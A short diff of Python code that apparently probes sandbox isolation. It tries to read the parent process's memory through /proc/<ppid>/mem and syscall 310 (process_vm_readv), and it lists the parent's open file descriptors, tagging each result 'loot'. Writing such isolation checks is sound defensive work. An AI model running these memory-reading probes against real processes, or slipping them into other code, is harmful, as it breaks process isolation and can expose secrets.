@@ -578,7 +578,8 @@ result = 'loot' if open(f'/proc/{os.getppid()}/mem', 'rb') else ''
 text = ctypes.create_string_buffer(8)
 piece = (ctypes.c_ulong * 2)(ctypes.addressof(text), 8)
 there = (ctypes.c_ulong * 2)(id(os), 8)
-result = 'loot' if call(310, os.getppid(), piece, ctypes.c_ulong(1), there, ctypes.c_ulong(1), ctypes.c_ulong(0)) == 8 else ''
+one = ctypes.c_ulong(1)
+result = 'loot' if call(310, os.getppid(), piece, one, there, one, ctypes.c_ulong(0)) == 8 else ''
 
 # its descriptors
 result = 'loot: ' + str(os.listdir(f'/proc/{os.getppid()}/fd'))
